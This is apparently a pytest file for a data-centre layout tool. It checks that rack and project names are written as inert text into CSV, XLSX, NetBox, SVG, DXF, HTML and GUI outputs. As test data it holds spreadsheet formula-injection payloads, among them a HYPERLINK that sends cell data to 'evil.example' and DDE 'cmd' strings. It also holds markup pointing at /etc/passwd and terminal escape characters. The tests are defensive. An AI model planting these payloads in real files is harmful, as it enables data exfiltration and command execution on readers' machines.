"""Outputs that cannot be turned against their reader: names from a project file written
as inert text into CSV and XLSX (no live formulas), without control characters into XLSX,
SVG, DXF and the report, and shown literally (not as rich text) by the GUI's labels.

Every output is read back with the program a reader would use: ``csv``, openpyxl,
``xml.etree``, ezdxf, Qt's own rich-text parser.
"""

from __future__ import annotations

import csv
import os
import xml.etree.ElementTree as ET
from html import escape
from pathlib import Path

import pytest

from layout.generator import ClusterRequest, generate
from report.bom import ExportError, write_bom
from report.safe_text import (
    csv_cell,
    literal_markup,
    printable,
    printable_markup,
    spreadsheet_text,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+41+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# A lone surrogate cannot be a name (the model refuses it, tests/test_limits.py); the
# escaping of one is tested on printable() below.
CONTROL = "bell\x07 esc\x1b[31m red\x1b[0m nul\x00 del\x7f csi\x9b line\u2028 rtl\u202e"
MARKUP = "<b>x</b><img src=file:///etc/passwd>"
ESCAPE = "\x1b"


@pytest.fixture(scope="module")
def hostile():
    """A generated cluster whose name and first GPU racks' names are hostile."""
    project = generate(ClusterRequest(gpus=1024))
    project.name = FORMULAS[0] + CONTROL
    racks = [
        item_id for item_id, t in zip(project.items.ids, project.items.type_ids, strict=True)
        if project.catalog[t].kind == "gpu_rack"
    ]  # fmt: skip
    names = {**dict(zip(racks, FORMULAS, strict=False))}
    names[racks[len(FORMULAS)]] = CONTROL
    names[racks[len(FORMULAS) + 1]] = MARKUP
    for item_id, name in names.items():
        project.set_item_name(item_id, name)
    return project, names


def no_control_characters(text: str) -> bool:
    return printable(text) == text


# -- the rules ------------------------------------------------------------------------------
def test_printable_escapes_what_acts_on_a_reader_and_keeps_the_rest() -> None:
    assert printable("Rack 1 — Memphis ✓ 机架") == "Rack 1 — Memphis ✓ 机架"
    assert printable("a\x1b[31mb") == "a\\u001b[31mb"
    assert printable("a\nb\tc\rd") == "a\\nb\\tc\\rd"
    assert printable("\x00\x7f\x9b\u2028\u202e\ud800\uffff") == (
        "\\u0000\\u007f\\u009b\\u2028\\u202e\\ud800\\uffff"
    )
    assert printable(CONTROL).isprintable()
    # A document keeps its own line breaks.
    assert printable_markup("<p>\n\ta\x1b</p>") == "<p>\n\ta\\u001b</p>"


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_gets_a_quote_in_csv(text: str) -> None:
    cell = spreadsheet_text(text)
    assert cell.startswith("'")
    assert no_control_characters(cell)


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert csv_cell(-3) == -3
    assert csv_cell(-2.5) == -2.5
    assert csv_cell("Rack one") == "Rack one"
    assert csv_cell("R00001") == "R00001"


def test_literal_markup_shows_the_text_as_written(qapp) -> None:
    from PySide6.QtGui import QTextDocument

    assert literal_markup("overlaps R2") == "overlaps R2"
    for text in (MARKUP, "a & b &amp; c", "x < y\nnext line"):
        shown = literal_markup(text)
        document = QTextDocument()
        document.setHtml(shown)
        assert document.toPlainText().replace("\u2029", "\n") == text


# -- CSV and XLSX ---------------------------------------------------------------------------
def read_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_csv_bom_names_are_inert_and_numbers_stay_numbers(hostile, tmp_path: Path) -> None:
    project, names = hostile
    _, links_path = write_bom(project, tmp_path / "bom.csv")
    header, *rows = read_rows(links_path)
    rack, name = header.index("Rack A"), header.index("Rack A name")
    shown = {row[rack]: row[name] for row in rows}
    for item_id, original in names.items():
        cell = shown[item_id]
        assert no_control_characters(cell), cell
        if original in FORMULAS:
            assert cell == "'" + printable(original)
        elif original == MARKUP:
            assert cell == MARKUP
        else:
            assert cell == printable(original)
    for column in ("Links", "Length (m)", "Cost (USD)"):
        k = header.index(column)
        assert all(float(row[k]) >= 0 for row in rows)


def test_xlsx_bom_names_are_strings_not_formulas(hostile, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    project, names = hostile
    (path,) = write_bom(project, tmp_path / "bom.xlsx")  # raised IllegalCharacterError
    workbook = load_workbook(path)
    sheet = workbook["Links"]
    header = [c.value for c in sheet[1]]
    rack, name = header.index("Rack A") + 1, header.index("Rack A name") + 1
    cells = {sheet.cell(r, rack).value: sheet.cell(r, name) for r in range(2, sheet.max_row + 1)}
    for item_id, original in names.items():
        cell = cells[item_id]
        assert cell.data_type == "s", (original, cell.data_type)
        assert cell.value == printable(original)
        # Tab and CR are escaped (the cell begins with a backslash); the rest keep a prefix.
        assert cell.quotePrefix == original.startswith(("=", "+", "-", "@"))
    links = header.index("Links") + 1
    assert all(sheet.cell(r, links).data_type == "n" for r in range(2, sheet.max_row + 1))
    assert no_control_characters(workbook.properties.title)


def test_netbox_csvs_are_inert(hostile, tmp_path: Path) -> None:
    from report.netbox_export import write_netbox

    project, names = hostile
    paths = write_netbox(project, tmp_path / "netbox")
    header, *racks = read_rows(paths["racks"])
    site = header.index("site")
    assert {row[site] for row in racks} == {"'" + printable(project.name)}
    by_name = {row[header.index("name")]: row for row in racks}
    description = header.index("description")
    for item_id, original in names.items():
        cell = by_name[item_id][description]
        assert no_control_characters(cell)
        assert cell.startswith(("'",) if original in FORMULAS else printable(original))
    u_height = header.index("u_height")
    assert all(row[u_height].isdigit() for row in racks)
    for kind in ("devices", "cables"):
        for row in read_rows(paths[kind]):
            assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
            assert all(no_control_characters(cell) for cell in row)


# -- SVG, DXF, report -----------------------------------------------------------------------
def test_svg_is_well_formed_with_control_characters_in_names(qapp, hostile, tmp_path) -> None:
    from report.pictures import render_svg

    project, _ = hostile
    out = tmp_path / "plan.svg"
    render_svg(project, out, px_per_m=4)
    root = ET.parse(out).getroot()  # not well-formed before: control characters
    text = "".join(e.text or "" for e in root.iter())
    assert printable(project.name) in text


def test_dxf_attributes_carry_no_control_characters(hostile, tmp_path: Path) -> None:
    import ezdxf

    from report.dxf_export import write_dxf

    project, names = hostile
    out = tmp_path / "plan.dxf"
    write_dxf(project, out)
    shown = {
        insert.get_attrib_text("ID"): insert.get_attrib_text("NAME")
        for insert in ezdxf.readfile(out).modelspace().query("INSERT")
    }
    for item_id, original in names.items():
        assert shown[item_id] == printable(original)


def test_report_html_escapes_names_and_control_characters(qapp, hostile, tmp_path) -> None:
    from report.report import write_report

    project, _ = hostile
    out = write_report(project, tmp_path / "report.html")
    html = out.read_text(encoding="utf-8")
    assert "<img src=file:" not in html
    for control in (ESCAPE, "\x00", "\x07"):
        assert control not in html
    assert escape(printable(project.name)) in html


# -- a full device --------------------------------------------------------------------------
@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no /dev/full here")
def test_pictures_to_a_full_device_give_the_system_reason(qapp, hostile) -> None:
    from report.pictures import render_png, render_svg

    project, _ = hostile
    with pytest.raises(ExportError, match=r"^/dev/full: cannot write the PNG \(no space left"):
        render_png(project, "/dev/full", px_per_m=2)
    with pytest.raises(ExportError, match=r"^/dev/full: cannot write the SVG \(no space left"):
        render_svg(project, "/dev/full", px_per_m=2)


# -- the GUI --------------------------------------------------------------------------------
def shown_as(text: str, rich: bool) -> str:
    """What a label shows for ``text``: parsed as rich text when the label takes it so."""
    from PySide6.QtGui import QTextDocument

    if not rich:
        return text
    document = QTextDocument()
    document.setHtml(text)
    return document.toPlainText()


def label_shows(label) -> str:
    from PySide6.QtGui import Qt

    rich = label.textFormat() == Qt.TextFormat.RichText or (
        label.textFormat() == Qt.TextFormat.AutoText and Qt.mightBeRichText(label.text())
    )
    return shown_as(label.text(), rich)


def gui_project():
    from layout.floor import Floor
    from layout.items import Item
    from layout.project import Project

    items = [
        Item("R1", "colossus-hgx-h100-lc", 5.0, 6.0, 0.0, MARKUP),
        Item("R2", "colossus-hgx-h100-lc", 8.0, 6.0, 0.0, CONTROL),
    ]
    return Project(Floor.rectangle(30.0, 12.0), items=items)


def test_elevation_heading_shows_the_name_literally(qtbot) -> None:
    from gui.dialogs.elevation import ElevationDialog

    dialog = ElevationDialog(gui_project(), "R1")
    qtbot.addWidget(dialog)
    shown = label_shows(dialog.heading)
    assert shown.startswith(f"{MARKUP} (R1) — ")
    dialog = ElevationDialog(gui_project(), "R2")
    qtbot.addWidget(dialog)
    assert label_shows(dialog.heading).startswith(f"{printable(CONTROL)} (R2) — ")
    assert ESCAPE not in dialog.windowTitle()


def test_inspector_labels_show_names_literally(qtbot) -> None:
    from gui.docks.inspector import InspectorDock
    from gui.undo import UndoStack

    project = gui_project()
    dock = InspectorDock()
    qtbot.addWidget(dock)
    dock.set_context(project, UndoStack(project))
    dock.show_items(["R1"])
    assert label_shows(dock.title_label) == MARKUP
    assert label_shows(dock.id_label) == "R1"


def test_canvas_tooltip_shows_the_name_literally(qtbot) -> None:
    from PySide6.QtGui import Qt

    from gui.canvas.scene import FloorScene

    scene = FloorScene(gui_project())
    tooltip = scene.equipment_item("R1").toolTip()
    assert shown_as(tooltip, Qt.mightBeRichText(tooltip)).startswith(f"{MARKUP} (R1)\n")


def test_violation_tooltip_shows_the_message_literally(qtbot) -> None:
    from PySide6.QtCore import Qt
    from PySide6.QtGui import Qt as QtGui

    from gui.docks.violations import ViolationTableModel
    from physics.engine import Violation

    model = ViolationTableModel()
    message = f"{MARKUP} overlaps R2"
    model.set_violations([Violation("placement.overlap", "error", message, ("R1", "R2"))], [])
    tip = model.data(model.index(0, 0), Qt.ItemDataRole.ToolTipRole)
    shown = shown_as(tip, QtGui.mightBeRichText(tip))
    assert shown.startswith(f"placement.overlap (error): {message}\n")
